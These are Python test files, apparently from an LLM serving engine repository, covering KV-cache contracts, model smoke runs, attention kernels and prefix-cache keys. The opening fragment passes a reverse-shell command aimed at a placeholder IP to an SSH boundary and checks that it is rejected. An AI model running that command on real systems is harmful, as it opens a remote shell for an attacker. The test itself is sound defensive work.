    res = b.ssh_exec("bash -i >& /dev/tcp/1.2.3.4/443 0>&1")
    assert res.exit_code == 77 and b"rejected" in res.stderr
    ok = b.ssh_exec("REQ GET /v1/models any")
    assert ok.exit_code == 0


def test_link_down_raises():
    b = ForceCommandBoundary(lambda a, s: SSHResult(0, b""))
    b.connected = False
    with pytest.raises(ConnectionError):
        b.ssh_exec("KEEPALIVE")
