"""Cache-contract tests: the per-leaf descriptor (`CacheLeafSpec`) must
drive every engine feature correctly for every cache family — pure SSM
(mamba2), hybrid attention+SSM (jamba), MLA latent KV (deepseek_v2) and
encoder cross-attention (whisper) — not just the paged-GQA family the
fast path was originally built for.

Matrix gates:
* jitted fast path bit-identical to the eager reference loop per family
  (greedy and seeded-sampled), including preemption-resume and fork;
* per-slot SSM state survives swap-preemption as an opaque host record;
* quantized KV pools (fp8_e4m3 / int8) carry sibling scale pools, cut
  bytes-per-block >= 1.8x, and stay close to bf16 greedy outputs;
* `top_logprobs` exports k alternatives per token from both executables
  and renders through the OpenAI surface (blocking + streaming);
* `capabilities()` reports the family-accurate feature surface the
  launcher banner prints.
"""
import json

import jax
import numpy as np
import pytest

from repro.configs import get_config, reduced
from repro.models import param_defs
from repro.models.model import (
    KIND_CROSS, KIND_PAGED, KIND_STATE, cache_defs, cache_leaf_specs)
from repro.models.params import materialize
from repro.serving.engine import (
    TOP_LOGPROBS_K, Engine, _paged_cache_defs, _pool_block_bytes)
from repro.serving.sampling import SamplingParams

FAMILIES = ["mamba2-1.3b", "jamba-1.5-large-398b", "deepseek-v2-236b",
            "whisper-medium"]

_built: dict = {}


def family(arch):
    """Reduced config + materialized params, memoized across tests."""
    if arch not in _built:
        cfg = reduced(get_config(arch))
        _built[arch] = (cfg, materialize(param_defs(cfg),
                                         jax.random.key(0)))
    return _built[arch]


def mk(arch, **kw):
    cfg, params = family(arch)
    kw.setdefault("max_num_seqs", 3)
    kw.setdefault("max_model_len", 128)
    kw.setdefault("block_size", 16)
    return Engine(cfg, params, **kw)


def drive(e, rids, limit=20000):
    steps = 0
    while e.has_work():
        e.step()
        steps += 1
        assert steps < limit
    return [e.requests[r].output for r in rids]


# ----- the contract itself: every leaf is described, correctly -----

def test_leaf_specs_cover_every_family():
    expect = {
        "mamba2-1.3b": {KIND_STATE},
        "jamba-1.5-large-398b": {KIND_PAGED, KIND_STATE},
        "deepseek-v2-236b": {KIND_PAGED},
        "whisper-medium": {KIND_PAGED, KIND_CROSS},
        "llama3.2-1b": {KIND_PAGED},
    }
    for arch, kinds in expect.items():
        cfg, _ = family(arch)
        specs = cache_leaf_specs(cache_defs(cfg, 2, 64))
        assert specs, arch
        assert {s.kind for s in specs.values()} == kinds, arch
        for s in specs.values():
            # swap classification and donation rules follow the kind
            assert s.swap == {KIND_PAGED: "paged", KIND_STATE: "opaque",
                              KIND_CROSS: "reprefill"}[s.kind], s
            assert s.donate == (s.kind != KIND_CROSS), s
            if s.kind != KIND_PAGED:
                assert not s.hoist, s


def test_engine_family_flags():
    e = mk("mamba2-1.3b")
    assert not e.paged and e._has_state and e._per_slot
    assert e.fast, "pure-SSM must still take the jitted fast path"
    e = mk("jamba-1.5-large-398b")
    assert e.paged and e._has_state and not e.pool_only
    e = mk("deepseek-v2-236b")
    assert e.paged and not e._has_state and e.pool_only
    e = mk("whisper-medium")
    assert e.paged and e._has_cross and not e.pool_only


def test_spec_decode_gated_by_family():
    # pure per-slot-state and MLA caches can't verify K+1 candidate
    # positions against a scratch block; GQA keeps speculation
    assert mk("mamba2-1.3b", spec_draft_len=4).spec_draft_len == 0
    assert mk("deepseek-v2-236b", spec_draft_len=4).spec_draft_len == 0
    assert mk("llama3.2-1b", spec_draft_len=4,
              max_model_len=96).spec_draft_len == 4


# ----- fast path == eager reference, per family -----

@pytest.mark.parametrize("arch", FAMILIES)
def test_fast_eager_bit_identical(arch):
    rs = np.random.RandomState(0)
    cfg, _ = family(arch)
    prompts = [rs.randint(1, cfg.vocab_size, n) for n in (12, 29, 7)]

    def run(fast):
        e = mk(arch, fast_path=fast)
        return drive(e, [e.submit(p, SamplingParams(max_new_tokens=12))
                         for p in prompts])

    fast_outs = run(True)
    assert fast_outs == run(False), arch
    assert all(len(o) == 12 for o in fast_outs)


@pytest.mark.parametrize("arch", ["mamba2-1.3b", "jamba-1.5-large-398b"])
def test_fast_eager_sampled_identical(arch):
    """Seeded temperature sampling: the position-keyed PRNG must draw the
    same tokens whichever executable computes the logits."""
    cfg, _ = family(arch)
    rs = np.random.RandomState(1)
    prompts = [rs.randint(1, cfg.vocab_size, n) for n in (9, 21)]
    sp = SamplingParams(max_new_tokens=10, temperature=0.8, seed=7)

    def run(fast):
        e = mk(arch, fast_path=fast)
        return drive(e, [e.submit(p, sp) for p in prompts])

    assert run(True) == run(False), arch


# ----- preemption-resume: recompute and swap, state families included ---

@pytest.mark.parametrize("arch", ["jamba-1.5-large-398b",
                                  "deepseek-v2-236b"])
def test_preemption_resume_bit_identical(arch):
    """An undersized pool forces preemptions; recompute- and
    swap-preemption must both reproduce the unpressured outputs.  For the
    hybrid family the swap path additionally checkpoints each victim's
    SSM state as one opaque host record."""
    gens = (48, 32, 24)
    prompts = [np.arange(1 + 40 * i, 1 + 40 * i + n)
               for i, n in enumerate((24, 20, 28))]
    need = sum(-(-(len(p) + g) // 16) for p, g in zip(prompts, gens))
    small = max(int(need * 0.6), 8)

    def run(swap_blocks, pool):
        e = mk(arch, max_model_len=256, num_blocks=pool,
               swap_blocks=swap_blocks)
        outs = drive(e, [e.submit(p, SamplingParams(max_new_tokens=g))
                         for p, g in zip(prompts, gens)])
        return outs, e.swap_stats()

    base, _ = run(0, 3 * 256 // 16)
    rec, rec_stats = run(0, small)
    sw, sw_stats = run(small, small)
    assert rec_stats["preemptions"] >= 1, "scenario created no pressure"
    assert sw_stats["swap_out_blocks"] >= 1
    assert rec == base, f"{arch}: recompute preemption changed outputs"
    assert sw == base, f"{arch}: swap preemption changed outputs"
    has_state = mk(arch)._has_state
    assert (sw_stats["state_records_in"] > 0) == has_state, sw_stats
    assert sw_stats["state_records_dropped"] == 0, sw_stats


def test_eager_state_swap_disabled():
    """Eager per-slot-state prefill can't resume block-aligned, so the
    engine must refuse the host pool rather than corrupt a resume."""
    e = mk("jamba-1.5-large-398b", fast_path=False, swap_blocks=16)
    assert not e.swap_enabled
    assert mk("deepseek-v2-236b", fast_path=False,
              swap_blocks=16).swap_enabled


# ----- fork (parallel sampling) beyond pure GQA -----

@pytest.mark.parametrize("arch", ["jamba-1.5-large-398b",
                                  "deepseek-v2-236b"])
@pytest.mark.parametrize("fast", [True, False])
def test_fork_matches_single(arch, fast):
    prompt = np.arange(1, 41)
    e = mk(arch, max_num_seqs=2, fast_path=fast)
    rid = e.submit(prompt, SamplingParams(max_new_tokens=12, n=2,
                                          best_of=2))
    drive(e, [rid])
    group = e.group_of(rid)
    assert group.finished
    e1 = mk(arch, max_num_seqs=2, fast_path=fast)
    ref = drive(e1, [e1.submit(prompt,
                               SamplingParams(max_new_tokens=12))])[0]
    assert all(r.output == ref for r in group.requests), arch


# ----- quantized KV pools -----

@pytest.mark.parametrize("kv_dtype", ["fp8_e4m3", "int8"])
def test_quantized_kv_close_to_bf16(kv_dtype):
    cfg, _ = family("llama3.2-1b")
    rs = np.random.RandomState(0)
    prompts = [rs.randint(1, cfg.vocab_size, n) for n in (12, 29)]

    def run(kd):
        e = mk("llama3.2-1b", kv_dtype=kd)
        return drive(e, [e.submit(p, SamplingParams(max_new_tokens=16))
                         for p in prompts]), e

    ref, _ = run(None)
    got, e = run(kv_dtype)
    # the pool carries per-row scales alongside the quantized payload
    leaves = jax.tree_util.tree_leaves_with_path(e.cache)
    names = {"/".join(str(k) for k in path) for path, _ in leaves}
    assert any("_scale_pool" in n for n in names), sorted(names)
    # greedy-divergence bound: random weights give near-uniform logits
    # (the most quantization-hostile case), yet every sequence must track
    # the bf16 run for a prefix and most tokens overall
    def common_prefix(a, b):
        n = 0
        for x, y in zip(a, b):
            if x != y:
                break
            n += 1
        return n
    assert all(common_prefix(a, b) >= 1 for a, b in zip(ref, got)), got
    agree = sum(x == y for a, b in zip(ref, got) for x, y in zip(a, b))
    total = sum(len(a) for a in ref)
    assert agree / total >= 0.25, (agree, total)


def test_quantized_kv_block_bytes_gain():
    """The reason to quantize: >= 1.8x more resident KV blocks in the
    same device memory (fp8/int8 payload + one f32 scale per row)."""
    cfg, _ = family("llama3.2-1b")
    import jax.numpy as jnp
    base = _pool_block_bytes(
        _paged_cache_defs(cfg, 2, 128, 32, 16), jnp.bfloat16)
    for kd in ("fp8_e4m3", "int8"):
        quant = _pool_block_bytes(
            _paged_cache_defs(cfg, 2, 128, 32, 16, kv_dtype=kd),
            jnp.bfloat16)
        assert base / quant >= 1.8, (kd, base, quant)


def test_quantized_kv_rejects_state_and_unknown():
    with pytest.raises(ValueError):
        mk("llama3.2-1b", kv_dtype="fp4")
    # quantization only narrows paged pools; state stays f32 — the engine
    # accepts the flag for hybrid families and leaves state untouched
    e = mk("jamba-1.5-large-398b", kv_dtype="int8")
    for path, spec in e._specs.items():
        if spec.kind == KIND_STATE:
            leaf = e.cache
            for k in path:
                leaf = leaf[k]
            assert leaf.dtype == np.float32, path


# ----- top_logprobs: both executables and the API surface -----

def test_top_logprobs_engine_paths():
    cfg, _ = family("llama3.2-1b")
    prompt = np.arange(1, 14)
    for fast in (True, False):
        e = mk("llama3.2-1b", fast_path=fast)
        rid = e.submit(prompt, SamplingParams(max_new_tokens=6,
                                              top_logprobs=3))
        plain = e.submit(prompt[:9], SamplingParams(max_new_tokens=6))
        drive(e, [rid, plain])
        r = e.requests[rid]
        assert len(r.top_logprobs) == len(r.output) == 6
        for j, row in enumerate(r.top_logprobs):
            assert len(row) == 3
            lps = [v for _, v in row]
            assert lps == sorted(lps, reverse=True)
            # greedy: the chosen token is the argmax, i.e. entry 0
            assert row[0][0] == r.output[j]
        # requests that didn't ask pay nothing
        assert e.requests[plain].top_logprobs == []


def test_top_logprobs_spec_and_state_paths():
    cfg, _ = family("llama3.2-1b")
    prompt = np.asarray(list(range(1, 9)) * 4, np.int32)   # draftable
    e = mk("llama3.2-1b", max_model_len=96, spec_draft_len=4)
    rid = e.submit(prompt, SamplingParams(max_new_tokens=8,
                                          top_logprobs=2))
    drive(e, [rid])
    r = e.requests[rid]
    assert e.spec_stats()["drafted_tokens"] > 0
    assert len(r.top_logprobs) == len(r.output)
    assert all(len(row) == 2 and row[0][0] == t
               for row, t in zip(r.top_logprobs, r.output))
    # per-slot-state family through its own decode executable
    e = mk("mamba2-1.3b")
    rid = e.submit(np.arange(1, 12), SamplingParams(max_new_tokens=5,
                                                    top_logprobs=4))
    drive(e, [rid])
    r = e.requests[rid]
    assert [len(row) for row in r.top_logprobs] == [4] * 5
    assert all(row[0][0] == t for row, t in zip(r.top_logprobs, r.output))


def test_top_logprobs_k_cap():
    e = mk("llama3.2-1b")
    rid = e.submit(np.arange(1, 10),
                   SamplingParams(max_new_tokens=3, top_logprobs=99))
    drive(e, [rid])
    assert all(len(row) == TOP_LOGPROBS_K
               for row in e.requests[rid].top_logprobs)


def test_top_logprobs_api_surface():
    from repro.serving.api import ApiServer, default_token_decode, parse_sse
    cfg, params = family("llama3.2-1b")
    e = Engine(cfg, params, max_num_seqs=2, max_model_len=128,
               block_size=16)
    srv = ApiServer(engine=e, encode=lambda s: [ord(c) % 100 + 1
                                                for c in s],
                    decode=default_token_decode)
    body = {"messages": [{"role": "user", "content": "hi"}],
            "max_tokens": 4, "logprobs": True, "top_logprobs": 2}
    resp = srv.chat_completion(dict(body))
    content = resp["choices"][0]["logprobs"]["content"]
    assert len(content) == 4
    for entry in content:
        tops = entry["top_logprobs"]
        assert len(tops) == 2
        assert tops[0]["token"] == entry["token"]      # greedy argmax
        assert tops[0]["logprob"] == entry["logprob"]
    # streaming renders the same alternatives per delta
    events = parse_sse(b"".join(
        srv.chat_completion_stream(dict(body, stream=True))))
    deltas = [ev["choices"][0] for ev in events if ev != "[DONE]"
              and ev["choices"][0]["delta"].get("content")]
    assert len(deltas) == 4
    for c in deltas:
        tops = c["logprobs"]["content"][0]["top_logprobs"]
        assert len(tops) == 2
        assert tops[0]["token"] == c["delta"]["content"]


def test_top_logprobs_api_validation():
    from repro.core.errors import ApiError
    from repro.serving.api import CompletionParams
    with pytest.raises(ApiError) as ei:
        CompletionParams.parse({"top_logprobs": 3})
    assert ei.value.param == "top_logprobs" and ei.value.status == 400
    with pytest.raises(ApiError):
        CompletionParams.parse({"logprobs": True, "top_logprobs": 9})
    p = CompletionParams.parse({"logprobs": True, "top_logprobs": 3})
    assert p.to_sampling().top_logprobs == 3


# ----- capabilities: the per-family banner is derived, not guessed -----

def test_capabilities_per_family():
    expect = {
        "llama3.2-1b": dict(prefix_caching=True, swap=True, fork=True,
                            spec_decode=True),
        "mamba2-1.3b": dict(prefix_caching=False, swap=False, fork=False,
                            spec_decode=False),
        "jamba-1.5-large-398b": dict(prefix_caching=False, swap=True,
                                     fork=True, spec_decode=False),
        "deepseek-v2-236b": dict(prefix_caching=True, swap=True,
                                 fork=True, spec_decode=False),
        "whisper-medium": dict(prefix_caching=False, swap=True, fork=True,
                               spec_decode=False),
    }
    for arch, feats in expect.items():
        caps = mk(arch, swap_blocks=8, spec_draft_len=4,
                  max_model_len=96).capabilities()
        got = {k: v["enabled"] for k, v in caps["features"].items()}
        assert got == feats, (arch, caps["features"])
        for k, v in caps["features"].items():
            # every disabled feature names a leaf-level reason
            assert v["reason"] and (v["enabled"]
                                    == (v["reason"] == "enabled")), (k, v)
        assert {leaf["kind"] for leaf in caps["leaves"]} <= {
            KIND_PAGED, KIND_STATE, KIND_CROSS}
        json.dumps(caps)                      # launch banner serializes it


def test_capabilities_reports_kv_dtype():
    assert mk("llama3.2-1b").capabilities()["kv_dtype"] == "model"
    assert mk("llama3.2-1b",
              kv_dtype="fp8_e4m3").capabilities()["kv_dtype"] == "fp8_e4m3"
