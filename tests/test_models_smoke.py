"""Per-architecture smoke tests (deliverable f): a REDUCED member of each
assigned family runs one forward/train step on CPU; output shapes + no NaNs.
"""
import jax
import jax.numpy as jnp
import numpy as np
import pytest

from repro.configs import get_config, list_archs, reduced
from repro.models import forward, init_cache, logits_last, param_defs
from repro.models.params import materialize
from repro.train.trainer import loss_fn

ARCHS = list_archs()[:10]       # the 10 assigned architectures

B, S = 2, 32


def setup_model(arch):
    cfg = reduced(get_config(arch))
    params = materialize(param_defs(cfg), jax.random.key(0))
    return cfg, params


def make_extras(cfg, batch, seq, mode):
    ex = {}
    if cfg.vision_embed_dim:
        ex["patch_embeds"] = jnp.ones((batch, seq, cfg.vision_embed_dim),
                                      jnp.float32) * 0.01
        mask = np.zeros((batch, seq), bool)
        mask[:, : min(4, seq)] = True          # first tokens are image patches
        ex["vision_mask"] = jnp.asarray(mask)
    if cfg.mrope_sections is not None:
        # M-RoPE: (temporal, h, w) position triplet per token
        base = jnp.arange(seq)[None, :, None]
        ex["mrope_positions"] = jnp.broadcast_to(
            base, (batch, seq, 3)).astype(jnp.int32)
    if cfg.cross_attention and mode in ("train", "prefill"):
        ex["encoder_frames"] = jnp.ones(
            (batch, cfg.num_encoder_frames, cfg.d_model), jnp.float32) * 0.01
    return ex


@pytest.mark.parametrize("arch", ARCHS)
def test_reduced_config_is_same_family(arch):
    full, red = get_config(arch), reduced(get_config(arch))
    assert red.family == full.family
    assert red.num_layers <= len(full.prefix) + 2 * len(full.period)
    assert red.d_model <= 512
    if full.moe:
        assert red.moe and red.moe.num_experts <= 4
    assert (red.mla is None) == (full.mla is None)
    assert (red.ssm is None) == (full.ssm is None)
    assert red.period == tuple(
        s for s in full.period) or len(red.period) == len(full.period)


@pytest.mark.parametrize("arch", ARCHS)
def test_forward_prefill_shapes_and_finite(arch):
    cfg, params = setup_model(arch)
    tokens = jnp.asarray(
        np.random.RandomState(0).randint(1, cfg.vocab_size, (B, S)), jnp.int32)
    pos = jnp.broadcast_to(jnp.arange(S)[None], (B, S))
    cache = init_cache(cfg, B, 64)
    ex = make_extras(cfg, B, S, "prefill")
    hidden, new_cache, aux = forward(cfg, params, tokens, positions=pos,
                                     mode="prefill", cache=cache, extras=ex)
    assert hidden.shape == (B, S, cfg.d_model)
    assert bool(jnp.isfinite(hidden).all()), f"{arch}: NaN/inf in hidden"
    logits = logits_last(cfg, params, hidden)
    assert logits.shape == (B, cfg.vocab_size)
    assert bool(jnp.isfinite(logits).all())
    assert new_cache is not None


@pytest.mark.parametrize("arch", ARCHS)
def test_one_train_step_finite(arch):
    cfg, params = setup_model(arch)
    tokens = jnp.asarray(
        np.random.RandomState(1).randint(1, cfg.vocab_size, (B, S + 1)),
        jnp.int32)
    ex = make_extras(cfg, B, S, "train")
    (loss, (xe, aux)), grads = jax.value_and_grad(
        lambda p: loss_fn(cfg, p, tokens, extras=ex), has_aux=True)(params)
    assert bool(jnp.isfinite(loss)), f"{arch}: loss not finite"
    # a random model should sit near ln(V)
    assert 0.2 * np.log(cfg.vocab_size) < float(xe) < 3 * np.log(
        cfg.vocab_size)
    leaves = jax.tree.leaves(grads)
    assert all(bool(jnp.isfinite(g).all()) for g in leaves), \
        f"{arch}: non-finite grads"
    assert any(float(jnp.abs(g).max()) > 0 for g in leaves), \
        f"{arch}: all-zero grads"


@pytest.mark.parametrize("arch", ARCHS)
def test_decode_step_shapes(arch):
    cfg, params = setup_model(arch)
    max_len = 64
    cache = init_cache(cfg, B, max_len)
    # prefill 8 tokens, then decode one
    S0 = 8
    tokens = jnp.asarray(
        np.random.RandomState(2).randint(1, cfg.vocab_size, (B, S0)),
        jnp.int32)
    pos = jnp.broadcast_to(jnp.arange(S0)[None], (B, S0))
    ex = make_extras(cfg, B, S0, "prefill")
    hidden, cache, _ = forward(cfg, params, tokens, positions=pos,
                               mode="prefill", cache=cache, extras=ex)
    nxt = jnp.argmax(logits_last(cfg, params, hidden), -1)[:, None]
    ex_d = make_extras(cfg, B, 1, "decode")
    hidden, cache, _ = forward(cfg, params, nxt.astype(jnp.int32),
                               positions=jnp.full((B,), S0, jnp.int32),
                               mode="decode", cache=cache, extras=ex_d)
    assert hidden.shape == (B, 1, cfg.d_model)
    assert bool(jnp.isfinite(hidden).all())


def test_param_counts_match_materialized():
    """param_counts() (used for roofline MODEL_FLOPS) must agree with the
    actually-materialized tree."""
    for arch in ("llama3.2-1b", "qwen3-14b"):
        cfg = get_config(arch)
        defs = param_defs(cfg)
        n_live = 0
        from repro.models.params import tree_map_defs

        def add(d):
            nonlocal n_live
            n = 1
            for s in d.shape:
                n *= s
            n_live += n
            return None
        tree_map_defs(add, defs)
        counted = cfg.param_counts()["total"]
        assert abs(n_live - counted) / counted < 0.02, \
            f"{arch}: defs {n_live:.3e} vs counted {counted:.3e}"


@pytest.mark.parametrize("arch", ["llama3-405b", "deepseek-v2-236b",
                                  "jamba-1.5-large-398b"])
def test_headline_param_counts(arch):
    """Total parameter counts must land near the papers' headline numbers."""
    targets = {"llama3-405b": 405e9, "deepseek-v2-236b": 236e9,
               "jamba-1.5-large-398b": 398e9}
    n = get_config(arch).param_counts()["total"]
    assert abs(n - targets[arch]) / targets[arch] < 0.06, \
        f"{arch}: {n / 1e9:.1f}B vs {targets[arch] / 1e9:.0f}B"
