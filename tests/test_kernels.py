"""Bass kernel tests: CoreSim execution swept over shapes/dtypes, asserted
against the pure-jnp oracle in ``repro.kernels.ref``."""
import jax
import jax.numpy as jnp
import numpy as np
import pytest

# the Trainium bass toolchain is optional in dev containers; without it the
# kernels can't even import — skip (don't fail) the whole module
pytest.importorskip("concourse",
                    reason="bass/concourse toolchain not installed")

from repro.kernels.ops import paged_decode_attention
from repro.kernels.ref import paged_decode_attention_ref

BS = 128     # Trainium-native block size


def make_case(rng, B, H, KV, hd, lengths, num_blocks=None):
    max_blocks = max(-(-int(l) // BS) for l in lengths)
    S_max = max_blocks * BS
    NB = num_blocks or (B * max_blocks + 2)
    q = rng.normal(size=(B, H, hd)).astype(np.float32)
    k_pool = rng.normal(size=(NB, BS, KV, hd)).astype(np.float32)
    v_pool = rng.normal(size=(NB, BS, KV, hd)).astype(np.float32)
    # random non-overlapping block assignment per sequence
    perm = rng.permutation(NB)
    bt = np.zeros((B, max_blocks), np.int32)
    n = 0
    for b in range(B):
        for j in range(-(-int(lengths[b]) // BS)):
            bt[b, j] = perm[n]
            n += 1
    return (jnp.asarray(q), jnp.asarray(k_pool), jnp.asarray(v_pool),
            jnp.asarray(bt), jnp.asarray(np.asarray(lengths, np.int32)))


@pytest.mark.parametrize("B,H,KV,hd,lengths", [
    (1, 4, 4, 32, [128]),            # MHA, one full block
    (1, 4, 2, 32, [100]),            # GQA g=2, partial block masking
    (2, 8, 2, 64, [128, 256]),       # multi-seq, ragged lengths
    (1, 7, 7, 32, [64]),             # odd head count (whisper-style MHA)
    (1, 14, 2, 64, [300]),           # g=7 (qwen2-vl grouping), 3 blocks
    (2, 4, 1, 128, [200, 40]),       # MQA, hd=128 (full partition width)
])
def test_matches_oracle(B, H, KV, hd, lengths):
    rng = np.random.RandomState(hash((B, H, KV, hd)) % 2**31)
    q, kp, vp, bt, ln = make_case(rng, B, H, KV, hd, lengths)
    got = paged_decode_attention(q, kp, vp, bt, ln)
    want = paged_decode_attention_ref(q, kp, vp, bt, ln, BS)
    np.testing.assert_allclose(np.asarray(got), np.asarray(want),
                               rtol=2e-4, atol=2e-5)


def test_block_table_indirection_matters():
    """Shuffling which pool blocks a sequence owns must change nothing
    (same logical tokens), but pointing at different blocks must."""
    rng = np.random.RandomState(0)
    q, kp, vp, bt, ln = make_case(rng, 1, 4, 2, 32, [256], num_blocks=6)
    out1 = np.asarray(paged_decode_attention(q, kp, vp, bt, ln))

    # swap the two blocks' contents AND the table: logically identical
    b0, b1 = int(bt[0, 0]), int(bt[0, 1])
    kp2 = np.asarray(kp).copy()
    vp2 = np.asarray(vp).copy()
    kp2[[b0, b1]] = kp2[[b1, b0]]
    vp2[[b0, b1]] = vp2[[b1, b0]]
    bt2 = np.asarray(bt).copy()
    bt2[0, 0], bt2[0, 1] = b1, b0
    out2 = np.asarray(paged_decode_attention(
        jnp.asarray(q), jnp.asarray(kp2), jnp.asarray(vp2),
        jnp.asarray(bt2), ln))
    np.testing.assert_allclose(out1, out2, rtol=1e-5, atol=1e-6)

    # different physical blocks -> different logical KV -> different output
    bt3 = np.asarray(bt).copy()
    bt3[0, 0] = [i for i in range(6) if i not in bt3[0, :2]][0]
    out3 = np.asarray(paged_decode_attention(
        q, kp, vp, jnp.asarray(bt3), ln))
    assert np.abs(out3 - out1).max() > 1e-3


def test_masked_tail_is_ignored():
    """Tokens past `length` (garbage in the partially-filled last block)
    must not affect the output."""
    rng = np.random.RandomState(1)
    q, kp, vp, bt, ln = make_case(rng, 1, 4, 2, 32, [130])
    out1 = np.asarray(paged_decode_attention(q, kp, vp, bt, ln))
    # scribble over the masked tail of the last block
    kp2 = np.asarray(kp).copy()
    vp2 = np.asarray(vp).copy()
    last = int(np.asarray(bt)[0, 1])
    kp2[last, 2:] = 1e3
    vp2[last, 2:] = -1e3
    out2 = np.asarray(paged_decode_attention(
        q, jnp.asarray(kp2), jnp.asarray(vp2), bt, ln))
    np.testing.assert_allclose(out1, out2, rtol=1e-5, atol=1e-6)


def test_matches_model_decode_attention():
    """The kernel agrees with the model library's own decode attention
    (repro.models.attention.decode_attention) on a contiguous cache."""
    from repro.models import attention as A
    rng = np.random.RandomState(2)
    B, H, KV, hd, S = 2, 4, 2, 32, 256
    q, kp, vp, bt, ln = make_case(rng, B, H, KV, hd, [S, 192])
    got = np.asarray(paged_decode_attention(q, kp, vp, bt, ln))

    flat = (np.asarray(bt)[:, :, None] * BS
            + np.arange(BS)[None, None, :]).reshape(B, -1)
    k = np.asarray(kp).reshape(-1, KV, hd)[flat]       # [B, S, KV, hd]
    v = np.asarray(vp).reshape(-1, KV, hd)[flat]
    ref = A.decode_attention(jnp.asarray(q)[:, None].swapaxes(1, 2) if False
                             else jnp.asarray(q[:, None]),
                             jnp.asarray(k), jnp.asarray(v),
                             jnp.asarray(np.asarray(ln)))
    # A.decode_attention expects q [B, 1, H, hd] and returns [B, 1, H, hd]
    np.testing.assert_allclose(got, np.asarray(ref)[:, 0], rtol=2e-4,
                               atol=2e-5)


# ---------------------------------------------------------------------------
# fused RMSNorm kernel
# ---------------------------------------------------------------------------

@pytest.mark.parametrize("n,d", [(128, 64), (256, 128), (100, 256), (1, 32)])
def test_rmsnorm_matches_oracle(n, d):
    from repro.kernels.ops import rmsnorm
    from repro.models.common import rms_norm
    rng = np.random.RandomState(n + d)
    x = jnp.asarray(rng.normal(0, 2.0, (n, d)).astype(np.float32))
    scale = jnp.asarray(rng.normal(1, 0.1, (d,)).astype(np.float32))
    got = rmsnorm(x, scale)
    want = rms_norm(x, scale)
    np.testing.assert_allclose(np.asarray(got), np.asarray(want),
                               rtol=2e-5, atol=2e-5)


def test_rmsnorm_batched_shape():
    from repro.kernels.ops import rmsnorm
    rng = np.random.RandomState(0)
    x = jnp.asarray(rng.normal(size=(2, 33, 64)).astype(np.float32))
    scale = jnp.ones((64,), jnp.float32)
    out = rmsnorm(x, scale)
    assert out.shape == (2, 33, 64)
    row = np.asarray(out[1, 17])
    assert abs(np.sqrt((row ** 2).mean()) - 1.0) < 1e-3


@pytest.mark.parametrize("dtype", [jnp.bfloat16, jnp.float16, jnp.float32])
def test_dtype_sweep_casts_through(dtype):
    """The ops wrapper accepts any float dtype (engine caches are bf16)."""
    rng = np.random.RandomState(3)
    q, kp, vp, bt, ln = make_case(rng, 1, 4, 2, 32, [96])
    got = paged_decode_attention(q.astype(dtype), kp.astype(dtype),
                                 vp.astype(dtype), bt, ln)
    want = paged_decode_attention_ref(
        q.astype(dtype).astype(jnp.float32),
        kp.astype(dtype).astype(jnp.float32),
        vp.astype(dtype).astype(jnp.float32), bt, ln, BS)
    assert got.dtype == jnp.float32
    np.testing.assert_allclose(np.asarray(got), np.asarray(want),
                               rtol=2e-4, atol=2e-4)
