"""Incremental prefix-cache keys (hash(parent, block_tokens, salt)) vs
the exact whole-prefix-tuple scheme they replaced: identical hit/miss
decisions on random workloads, collision refusal via the stored-token
check, and serializability (the property the cross-instance index needs).
"""
import json
import random

import pytest

from _hypothesis_compat import given, settings, st
from repro.serving.kv_cache import (
    BlockManager, OutOfBlocks, block_key, chain_keys)

BS = 4


def exact_tuple_key(parent, toks, salt):
    """The old collision-proof scheme, expressed incrementally: nesting
    the parent key reproduces the entire-prefix tuple structurally, so
    equal keys <=> equal (salt, whole prefix)."""
    return (parent, tuple(toks), repr(salt))


def mk_pair(blocks=12, bs=BS):
    bm = BlockManager(blocks, bs)
    oracle = BlockManager(blocks, bs)
    oracle._key_fn = exact_tuple_key
    return bm, oracle


def drive_both(seed, steps=300, blocks=12):
    """Identical random allocate/fill/append/free/fork traffic against the
    incremental-key manager and the exact-tuple oracle; every cache
    decision (hits, misses, block placement counts) must agree."""
    rng = random.Random(seed)
    bm, oracle = mk_pair(blocks)
    live = []
    next_id = 0
    for _ in range(steps):
        op = rng.random()
        try:
            if op < 0.40 or not live:
                n = rng.randint(1, 5 * BS)
                # a handful of shared heads + random tails => real traffic
                # shape (system prompts), guaranteeing frequent hits
                head = [[0] * 12, [0] * 4 + [1] * 8, [1] * 12][
                    rng.randrange(3)]
                ids = (head + [rng.randint(0, 2)
                               for _ in range(max(n - len(head), 0))])[:n]
                salt = None if rng.random() < 0.8 else "a"
                ca = cb = None
                try:
                    bm.allocate(next_id, n, token_ids=ids, salt=salt)
                    ca = bm.cached_tokens(next_id)
                except OutOfBlocks:
                    pass
                try:
                    oracle.allocate(next_id, n, token_ids=ids, salt=salt)
                    cb = oracle.cached_tokens(next_id)
                except OutOfBlocks:
                    pass
                assert ca == cb, f"divergent admission/hit: {ca} vs {cb}"
                if ca is not None:
                    fill = rng.randint(0, n)
                    bm.mark_filled(next_id, fill)
                    oracle.mark_filled(next_id, fill)
                    live.append(next_id)
                next_id += 1
            elif op < 0.55:
                sid = rng.choice(live)
                t = rng.randint(0, 2)
                ra = rb = True
                try:
                    bm.append_token(sid, token_id=t)
                except OutOfBlocks:
                    ra = False
                try:
                    oracle.append_token(sid, token_id=t)
                except OutOfBlocks:
                    rb = False
                assert ra == rb
            elif op < 0.70:
                sid = rng.choice(live)
                n = bm.num_tokens(sid)
                bm.mark_filled(sid, n)
                oracle.mark_filled(sid, n)
            elif op < 0.80 and len(live) < 8:
                sid = rng.choice(live)
                bm.fork(sid, next_id)
                oracle.fork(sid, next_id)
                live.append(next_id)
                next_id += 1
            else:
                sid = rng.choice(live)
                bm.free(sid)
                oracle.free(sid)
                live.remove(sid)
        except OutOfBlocks:
            pass
        bm.check_invariants()
        oracle.check_invariants()
        # the schemes must induce the same cache behaviour throughout
        assert bm.stats.hit_tokens == oracle.stats.hit_tokens
        assert bm.stats.miss_tokens == oracle.stats.miss_tokens
        assert bm.stats.evictions == oracle.stats.evictions
        assert bm.free_blocks == oracle.free_blocks
        assert bm.cached_blocks == oracle.cached_blocks
    assert bm.stats.hit_tokens > 0, "workload never hit: test is vacuous"
    assert bm.stats.collision_rejects == 0


def test_incremental_keys_match_exact_tuple_decisions():
    for seed in (0, 1, 2, 3):
        drive_both(seed)


@settings(max_examples=15, deadline=None)
@given(st.integers(0, 2**32 - 1))
def test_incremental_keys_match_exact_tuple_decisions_prop(seed):
    drive_both(seed, steps=120)


def test_lookup_prefix_agrees_across_schemes():
    bm, oracle = mk_pair()
    ids = [1, 1, 2, 2] * 4
    for m in (bm, oracle):
        m.allocate(1, len(ids), token_ids=ids)
        m.mark_filled(1, len(ids))
